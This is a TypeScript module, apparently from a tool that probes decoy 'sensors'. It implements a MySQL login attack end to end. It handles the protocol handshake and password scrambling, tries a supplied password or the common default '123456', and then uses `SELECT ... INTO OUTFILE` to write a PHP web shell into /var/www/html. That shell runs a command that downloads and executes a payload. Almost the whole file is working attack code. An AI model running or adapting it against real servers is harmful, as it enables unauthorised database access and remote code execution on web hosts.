import { createHash } from 'node:crypto'
import { downloadCommand, type SensorAttack } from './attack.js'
import { type Conversation, converse } from './conversation.js'

/** Of one packet of a server; an answer of a decoy is far smaller. */
const MAX_PAYLOAD = 32 * 1024
/** Steps of a login: an answer, another plugin, a fast answer. */
const MAX_STEPS = 4
/** CLIENT_PROTOCOL_41, CLIENT_SECURE_CONNECTION, CLIENT_PLUGIN_AUTH. */
const CAPABILITIES = 0x8_8200
const MAX_PACKET = 1024 * 1024
const UTF8 = 45
const SALT_BYTES = 20
const FIRST_SALT_BYTES = 8
const [OK, MORE_DATA, AUTH_SWITCH] = [0x00, 0x01, 0xfe]
const FAST_AUTH_SUCCESS = 0x03
const COM_QUERY = 0x03
const COM_QUIT = 0x01
/** The first of the lists of attackers, where none is known to be accepted. */
const COMMON_PASSWORD = '123456'

/**
 * Logs in with the marker as the user, since the password is sent as a hash, and writes a web shell through a query.
 * https://dev.mysql.com/doc/dev/mysql-server/latest/page_protocol_connection_phase.html
 */
export const mysqlAttack: SensorAttack = (where, { marker, deadline }) =>
  converse(where, deadline, async (conversation) => {
    const talk = packetsOver(conversation)
    const password = where.password ?? COMMON_PASSWORD
    if (!(await logIn(talk, marker, password))) return
    const shell = `<?php system('${downloadCommand(marker)}'); ?>`
    talk.send(command(COM_QUERY, `SELECT "${shell}" INTO OUTFILE "/var/www/html/${marker}.php"`))
    await talk.next()
    talk.send(command(COM_QUIT, ''))
  })

/** Packets with their numbers; a command begins with 0. */
interface PacketTalk {
  next(): Promise<Buffer>
  answer(payload: Buffer): void
  send(payload: Buffer): void
}

function packetsOver({ bytes, send }: Conversation): PacketTalk {
  let sequence = 0
  const write = (payload: Buffer, number: number) => {
    const header = Buffer.alloc(4)
    header.writeUIntLE(payload.length, 0, 3)
    header.writeUInt8(number & 0xff, 3)
    send(Buffer.concat([header, payload]))
  }
  return {
    async next() {
      const header = await bytes(4)
      const length = header.readUIntLE(0, 3)
      if (length > MAX_PAYLOAD) throw new Error('the server sent a packet that is too large')
      sequence = header.readUInt8(3)
      return bytes(length)
    },
    answer: (payload) => write(payload, sequence + 1),
    send: (payload) => write(payload, 0),
  }
}

/** @returns whether the server accepted it; false also where it asks for more than a hash. */
async function logIn(talk: PacketTalk, username: string, password: string): Promise<boolean> {
  const { plugin, salt } = greetingIn(await talk.next())
  talk.answer(handshakeResponse(username, plugin, scramble(plugin, password, salt)))
  for (let step = 1; step <= MAX_STEPS; step += 1) {
    const packet = await talk.next()
    const [kind, detail] = packet
    if (kind === OK) return true
    if (kind === AUTH_SWITCH) {
      const end = packet.indexOf(0, 1)
      const other = packet.toString('latin1', 1, end)
      talk.answer(scramble(other, password, packet.subarray(end + 1, end + 1 + SALT_BYTES)))
    } else if (kind !== MORE_DATA || detail !== FAST_AUTH_SUCCESS) return false
  }
  return false
}

/** Protocol::HandshakeV10. @throws {Error} for what is none. */
function greetingIn(packet: Buffer): { plugin: string; salt: Buffer } {
  const version = packet.indexOf(0, 1)
  /** After the version and its NUL, four bytes of a thread. */
  const at = version + 5
  if (packet[0] !== 10 || version < 0 || packet.length < at + 44) {
    // An error, as of a server that has too many connections.
    throw new Error('the server did not greet as a MySQL server does')
  }
  const rest = at + 27
  const salt = Buffer.concat([
    packet.subarray(at, at + FIRST_SALT_BYTES),
    packet.subarray(rest, rest + SALT_BYTES - FIRST_SALT_BYTES),
  ])
  const name = packet.subarray(rest + SALT_BYTES - FIRST_SALT_BYTES + 1)
  const end = name.indexOf(0)
  return { salt, plugin: name.toString('latin1', 0, end < 0 ? name.length : end) }
}

function handshakeResponse(username: string, plugin: string, proof: Buffer): Buffer {
  const head = Buffer.alloc(32)
  head.writeUInt32LE(CAPABILITIES, 0)
  head.writeUInt32LE(MAX_PACKET, 4)
  head.writeUInt8(UTF8, 8)
  return Buffer.concat([
    head,
    Buffer.from(`${username}\0`),
    Buffer.from([proof.length]),
    proof,
    Buffer.from(`${plugin}\0`),
  ])
}

function command(code: number, text: string): Buffer {
  return Buffer.concat([Buffer.from([code]), Buffer.from(text)])
}

/** The proof of a password of caching_sha2_password, or of mysql_native_password for every other plugin. */
function scramble(plugin: string, password: string, salt: Buffer): Buffer {
  const isCaching = plugin === 'caching_sha2_password'
  const hash = (...parts: Buffer[]) =>
    createHash(isCaching ? 'sha256' : 'sha1')
      .update(Buffer.concat(parts))
      .digest()
  const once = hash(Buffer.from(password))
  const key = isCaching ? hash(hash(hash(once)), salt) : hash(salt, hash(once))
  return Buffer.from(once.map((byte, index) => byte ^ (key[index] ?? 0)))
}
